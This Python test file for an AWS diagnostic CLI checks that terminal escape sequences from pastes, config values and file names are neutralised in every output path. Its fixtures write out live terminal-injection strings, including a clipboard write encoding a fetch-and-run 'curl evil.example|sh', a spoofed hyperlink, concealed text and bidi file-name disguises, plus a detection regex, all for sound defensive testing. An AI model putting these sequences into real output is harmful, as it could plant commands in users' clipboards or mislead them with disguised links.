"""Nothing hostile reaches a terminal: one filter for every string bound for one (issue 17, 3).

A paste, a config value, a file name or an endpoint's answer may carry escape sequences: OSC 52
writes the clipboard, OSC 8 makes a link say one thing and open another, CSI clears the screen
or hides text, C1 controls do the same in 8 bits, and bidi overrides reorder what is shown.
Every path to a terminal is tried here: hanging text, commands, Markdown, `--format
text|markdown|json`, the REPL and its toolbar, error messages, notes and --debug logs. Rich's
own colours must survive: only what came from outside is neutralised.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from awsmedic.model import Candidate, Confidence, Diagnosis, Evidence, Status, Step
from awsmedic.output.render import Printer, make_console
from awsmedic.repl.view import ReplPrinter
from awsmedic.safety.redact import SecretBook
from awsmedic.safety.safetext import printable
from tests.hardening.inprocess import run_main

HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: write the clipboard
    "\x1b]8;;https://evil.example/\x1b\\docs.aws.amazon.com\x1b]8;;\x1b\\"  # OSC 8: a link
    "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
    "\x1b[8mhidden\x1b[0m"  # CSI: concealed text
    "\x9b2J"  # the same in 8 bits (C1 CSI)
    "\x9d52;c;eA==\x9c"  # C1 OSC ... ST
    "\x1bP+q6b64\x1b\\"  # DCS
    "\u202egnp.exe\u202c\u2066x\u2069"  # bidi overrides and isolates
    "\x07\x08\x7f"  # BEL, BS, DEL
)
# What may never reach a terminal from outside: C0 controls but tab and newline, DEL, C1, and
# the Unicode bidi controls.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
ICTI = (
    "An error occurred (InvalidClientTokenId) when calling the GetCallerIdentity operation: "
    "The security token included in the request is invalid."
)


#: The same in a file name (no slash).
NAME = HOSTILE.replace("/", "")


def assert_safe(text: str) -> None:
    found = UNSAFE.search(text)
    assert found is None, f"{found.group(0)!r} reached the terminal: ...{text[:200]!r}"


def test_the_filter_neutralises_every_kind() -> None:
    shown = printable(HOSTILE)
    assert_safe(shown)
    assert "evil.example" not in shown  # the link's target is gone with its escape
    assert "docs.aws.amazon.com" in shown and "hidden" in shown  # the visible text stays
    assert printable(shown) == shown
    assert printable("tab\there\nnext line ✓ é 日本") == "tab\there\nnext line ✓ é 日本"


def _printer() -> tuple[Printer, io.StringIO]:
    screen = io.StringIO()
    return ReplPrinter(make_console(screen, no_color=True, width=100), SecretBook()), screen


def _diagnosis(hostile: str) -> Diagnosis:
    return Diagnosis(
        cause="x",
        title=f"title {hostile}",
        confidence=Confidence.LIKELY,
        evidence=(f"evidence {hostile}",),
        why=f"why {hostile}",
        steps=(
            Step(
                f"Run `aws sts get-caller-identity --profile dev{hostile}`",
                (f"aws sts get-caller-identity --profile dev{hostile}",),
            ),
            Step(f"- {hostile}"),
        ),
    )


PRINTER_PATHS: dict[str, Callable[[ReplPrinter, str], None]] = {
    "hanging text": lambda p, h: p.hang("  •", f"a finding {h}"),
    "a command": lambda p, h: p.command(f"aws configure --profile {h}"),
    "Markdown": lambda p, h: p.diagnosis(_diagnosis(h)),
    "evidence": lambda p, h: p.evidence(Evidence("creds.env", Status.PROBLEM, h)),
    "candidates": lambda p, h: p.candidates((Candidate("x", h, 50),), h),
    "the echoed paste": lambda p, h: p.echo(f"{h}\nsecond line"),
    "a message": lambda p, h: p.say(f"awsmedic: {h}"),
}


@pytest.mark.parametrize("path", PRINTER_PATHS)
def test_every_printer_path_is_filtered(path: str) -> None:
    printer, screen = _printer()
    PRINTER_PATHS[path](printer, HOSTILE)  # type: ignore[arg-type]
    assert screen.getvalue().strip()
    assert_safe(screen.getvalue())


BEL_OSC = "\x1b]0;x\x07"  # a BEL-terminated OSC (set the window title): rich drops the BEL


@pytest.mark.parametrize("path", PRINTER_PATHS)
def test_only_the_escape_goes_the_rest_of_the_line_stays(path: str) -> None:
    """Audit F6: rich removed the BEL, the filter then saw an unterminated OSC and removed
    everything after it in the segment. The text after the sequence must stay."""
    printer, screen = _printer()
    PRINTER_PATHS[path](printer, f"dev{BEL_OSC}SUFFIX-VISIBLE")  # type: ignore[arg-type]
    shown = screen.getvalue()
    assert_safe(shown)
    assert "devSUFFIX-VISIBLE" in "".join(shown.split()), shown


def test_diagnose_keeps_the_evidence_after_a_bel_terminated_sequence(home: Path) -> None:
    (home / ".aws").mkdir(exist_ok=True)
    (home / ".aws" / "config").write_text("[profile dev]\nregion = us-east-1\n")
    env = {
        "HOME": str(home),
        "AWS_CONFIG_FILE": str(home / ".aws" / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(home / ".aws" / "credentials"),
        "AWS_EC2_METADATA_DISABLED": "true",
        "AWS_PROFILE": f"dev{BEL_OSC}SUFFIX-VISIBLE",
    }
    status, out, err = run_main(["diagnose", "--offline", "--no-input", ICTI], env)
    assert status == 0, err
    assert_safe(out)
    chain = next(line for line in out.splitlines() if "Credential chain" in line)
    assert "profile 'devSUFFIX-VISIBLE' (AWS_PROFILE)" in chain, out


def test_rich_keeps_its_own_colours_and_loses_the_pastes() -> None:
    screen = io.StringIO()
    console = make_console(screen, no_color=False, width=100, force_terminal=True)
    Printer(console, SecretBook()).hang("  ✗", f"refused {HOSTILE}", "red")
    shown = screen.getvalue()
    assert "\x1b[31m" in shown  # rich's red
    for sequence in ("\x1b]52", "\x1b]8;", "\x1b[2J", "\x1b[8m", "\x9b", "\u202e"):
        assert sequence not in shown


@pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
def test_diagnose_output_and_logs_are_filtered(fmt: str, home: Path) -> None:
    """A hostile AWS_PROFILE (it is quoted in evidence) and a hostile paste, with --debug."""
    env = {
        "HOME": str(home),
        "AWS_CONFIG_FILE": str(home / ".aws" / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(home / ".aws" / "credentials"),
        "AWS_EC2_METADATA_DISABLED": "true",
        "AWS_PROFILE": f"dev{HOSTILE}",
    }
    text = f"{HOSTILE}\n{ICTI}\n{HOSTILE}"
    status, out, err = run_main(
        ["--debug", "diagnose", "--offline", "--no-input", "--format", fmt, text], env
    )
    assert status == 0, err
    assert "dev" in out
    assert_safe(out)
    assert_safe(err)


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*_strings(k), *_strings(v))]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


@pytest.mark.parametrize("command", ["diagnose", "check"])
def test_json_output_holds_no_control_character_even_escaped(command: str, home: Path) -> None:
    """Audit F7: JSON escapes a control character (`\\u001b`), and `jq -r` turns it back into
    a live escape sequence: every decoded string is filtered, as in the export's JSON."""
    import json

    (home / ".aws").mkdir(exist_ok=True)
    (home / ".aws" / "config").write_text(f"[profile other{NAME}]\nregion = us-east-1\n")
    env = {
        "HOME": str(home),
        "AWS_CONFIG_FILE": str(home / ".aws" / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(home / ".aws" / "credentials"),
        "AWS_EC2_METADATA_DISABLED": "true",
        "AWS_PROFILE": f"dev{HOSTILE}",
    }
    argv = ["diagnose", "--offline", "--no-input", "--format", "json", f"{HOSTILE}\n{ICTI}"]
    if command == "check":
        argv = ["check", "--offline", "--all", "--format", "json"]
    _, out, _ = run_main(argv, env)
    strings = _strings(json.loads(out))
    assert any("dev" in s and "hidden" in s for s in strings), out  # the visible text stays
    for text in strings:
        assert_safe(text)


def test_error_messages_and_notes_are_filtered(home: Path, tmp_path: Path) -> None:
    env = {"HOME": str(home), "AWS_CONFIG_FILE": str(tmp_path / f"cfg{NAME}")}
    (tmp_path / f"cfg{NAME}").mkdir()  # a directory: botocore skips it, awsmedic says so
    status, out, err = run_main(["show", str(tmp_path / f"missing{NAME}.json")], env)
    assert status == 2 and "missing" in err
    assert "is a directory" in err  # the note about the config file
    assert_safe(out + err)
    status, out, err = run_main(["diagnose", "--export", str(tmp_path / f"x{NAME}.txt"), ICTI], env)
    assert status == 2 and ".txt" in err
    assert_safe(out + err)


def test_kb_check_problems_are_filtered(tmp_path: Path, home: Path) -> None:
    trees = tmp_path / "kb" / "trees"
    trees.mkdir(parents=True)
    (trees / f"bad{NAME}.toml").write_text(f'id = "{HOSTILE}"\n[[[\n')
    status, out, err = run_main(["kb", "check", str(tmp_path / "kb")], {"HOME": str(home)})
    assert status == 1 and "bad" in out
    assert_safe(out + err)
